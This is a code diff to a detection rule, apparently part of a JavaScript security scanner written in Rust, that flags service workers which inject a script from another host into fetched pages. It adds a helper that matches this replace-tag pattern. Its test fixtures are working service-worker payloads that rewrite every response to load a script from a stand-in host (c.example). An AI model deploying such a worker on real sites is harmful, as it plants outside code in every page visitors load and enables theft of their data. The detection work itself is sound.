@@ -1,6 +1,7 @@
 //! `script-put-in-by-worker`.
 
 use crate::facts::Atom;
+use crate::signals::near::Near;
 use crate::signals::{Evidence, Held, Signal, one};
 use crate::taint::{Mark, Sink};
 use crate::{ClassSet, Severity};
@@ -21,6 +22,7 @@ pub(super) const SIGNAL: Signal = Signal {
     cases: crate::signals::Cases {
         with: &[
             r#"self.addEventListener('fetch',e=>e.respondWith(fetch(e.request).then(r=>r.text()).then(t=>new Response(t.replace('</head>','<script src=//c.example/a.js></script></head>')))))"#,
+            r#"self.addEventListener('fetch',e=>{e.respondWith(fetch(e.request).then(async r=>new Response((await r.text()).replace('</body>','<script src="https://c.example/k.js"></script></body>'),{headers:r.headers})))})"#,
         ],
         without: &[
             r#"self.addEventListener('fetch',e=>e.respondWith(caches.match(e.request).then(r=>r||fetch(e.request))))"#,
@@ -34,6 +36,15 @@ fn puts_in(evidence: &Evidence<'_>, held: Held) -> bool {
     let near = held.first..=held.last.saturating_add(NEAR);
     evidence.flows.iter().any(|flow| {
         flow.sink == Sink::Replaced && near.contains(&flow.at) && flow.marks.has(Mark::ScriptElement)
+    }) || writes_tag(Near::new(evidence, held, NEAR as usize))
+}
+
+/// Whether the end of a part of a page is replaced by a script of another host: `text.replace('</body>', '<script src="https://…')`.
+fn writes_tag(near: Near<'_>) -> bool {
+    near.words(&["replace"]).any(|at| {
+        near.text_at(at + 2).is_some_and(|text| {
+            ["</body", "</head", "<head", "<body"].iter().any(|tag| text.starts_with(tag))
+        }) && near.text_at(at + 4).is_some_and(|text| text.contains("<script") && text.contains("//"))
     })
 }
 
